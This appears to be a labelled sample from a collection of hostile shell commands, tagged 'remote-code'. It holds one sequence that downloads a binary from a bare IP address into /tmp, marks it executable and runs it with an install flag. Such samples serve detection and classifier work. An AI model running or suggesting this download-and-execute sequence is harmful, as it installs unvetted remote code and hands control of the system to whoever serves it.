# description: Downloads a binary, makes it executable and runs it.
# family: remote-code
cd /tmp
wget -q -O agent http://198.51.100.7/agent
chmod +x agent
./agent --install
